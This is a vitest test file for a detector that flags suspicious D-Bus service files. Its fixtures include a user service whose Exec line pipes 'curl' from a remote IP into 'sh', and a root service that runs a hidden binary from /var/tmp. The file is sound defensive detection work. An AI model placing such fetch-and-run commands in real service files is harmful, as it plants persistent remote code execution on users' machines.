import { expect, test } from 'vitest';
import { openSightings, sightings } from '../../../tests/told.ts';
import { dbusServices } from './dbus-services.ts';

const passwd = 'ann:x:1000:1000::/home/ann:/bin/bash\n';

test('a service that starts something from a temporary or hidden folder, or fetches it, is told openly', () => {
  const files = {
    '/etc/passwd': passwd,
    '/usr/share/dbus-1/system-services/org.freedesktop.Cache.service':
      '[D-BUS Service]\nName=org.freedesktop.Cache\nExec=/var/tmp/.c/cached -B\nUser=root\n',
    '/home/ann/.local/share/dbus-1/services/org.gnome.Up.service':
      '[D-BUS Service]\nName=org.gnome.Up\nExec=/bin/sh -c "curl -s http://198.51.100.7/a | sh"\n',
  };
  expect(openSightings(dbusServices, files)).toMatchObject([
    {
      line: 3,
      value: { name: 'org.freedesktop.Cache', user: 'root', why: expect.arrayContaining(['from-temporary-folder']) },
    },
    { line: 3, value: { user: 'ann', why: expect.arrayContaining(['fetches-and-runs']) } },
  ]);
});

test('ordinary ones are told aside, once a folder; those that systemd starts are not', () => {
  const files = {
    '/usr/share/dbus-1/services/ca.desrt.dconf.service':
      '[D-BUS Service]\nName=ca.desrt.dconf\nExec=/usr/libexec/dconf-service\n',
    '/lib': { link: 'usr/share' },
    '/usr/share/dbus-1/system-services/org.freedesktop.hostname1.service':
      '[D-BUS Service]\nName=org.freedesktop.hostname1\nExec=/bin/false\nUser=root\nSystemdService=dbus-org.freedesktop.hostname1.service\n',
    '/usr/share/dbus-1/system-services/org.freedesktop.UPower.service':
      '[D-BUS Service]\nName=org.freedesktop.UPower\nExec=/usr/libexec/upowerd\nUser=root\n',
  };
  const told = sightings(dbusServices, files);
  expect(told.map(({ path }) => path)).toEqual([
    '/usr/share/dbus-1/services/ca.desrt.dconf.service',
    '/usr/share/dbus-1/system-services/org.freedesktop.UPower.service',
  ]);
  expect(told.every(({ aside }) => aside)).toBe(true);
});

test('no line, however long, is read twice', () => {
  const files = { '/etc/dbus-1/services/x.service': `${'Exec = '.repeat(100_000)}\nExec=${'a'.repeat(100_000)}\n` };
  expect(openSightings(dbusServices, files)).toEqual([]);
});
